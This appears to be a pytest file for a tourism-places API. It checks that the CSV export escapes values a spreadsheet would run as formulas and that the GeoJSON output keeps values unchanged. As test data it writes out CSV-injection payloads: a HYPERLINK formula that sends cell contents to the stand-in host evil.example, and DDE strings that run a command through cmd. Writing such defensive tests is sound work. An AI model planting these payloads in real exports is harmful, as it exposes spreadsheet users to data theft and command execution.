"""The public items CSV (`f=csv`) quotes text a spreadsheet would run as a formula (issue 11,
item 7; OWASP: a leading '), while GeoJSON keeps the values exactly and numbers stay numbers."""
from __future__ import annotations

import csv
import io
import json

import psycopg

ITEMS = "/collections/tourism_places/items"
VALUES = {
    "name_vi": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "opening_hours": "-2+3",
    "description_vi": "\t=1+1",
    "website": "\r=1+1",
    "phone": "+84912345678",  # a number written as text: no formula, left alone
    "email": "-12",
}
PHOTOS = ["=cmd|' /C calc'!A0", "a.jpg"]


def test_items_csv_quotes_formulas_and_keeps_numbers(writer, demo_db):
    with psycopg.connect(demo_db) as conn:
        place = conn.execute("SELECT id FROM tourism_places ORDER BY id LIMIT 1").fetchone()[0]
        conn.execute("UPDATE tourism_places SET name_vi = %(name_vi)s, address = %(address)s, "
                     "opening_hours = %(opening_hours)s, description_vi = %(description_vi)s, "
                     "website = %(website)s, phone = %(phone)s, email = %(email)s, photos = %(photos)s::jsonb "
                     "WHERE id = %(id)s", {**VALUES, "photos": json.dumps(PHOTOS), "id": place})
    r = writer.get(ITEMS, params={"f": "csv", "limit": 10000})
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    row = next(x for x in rows if x["name_vi"].endswith(VALUES["name_vi"]))
    for key in ("name_vi", "address", "opening_hours", "description_vi", "website"):
        assert row[key] == "'" + VALUES[key], key
    assert row["phone"] == VALUES["phone"] and row["email"] == VALUES["email"]
    assert "=cmd" in row["photos"] and not row["photos"].startswith("=")  # a list: joined, then quoted
    cells = [c for x in csv.reader(io.StringIO(r.text)) for c in x]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) and c != VALUES["phone"]]
    # GeoJSON is not a spreadsheet format: the same item keeps its value exactly.
    geojson = writer.get(ITEMS, params={"limit": 10000}).json()
    assert any(f["properties"]["name_vi"] == VALUES["name_vi"] for f in geojson["features"])
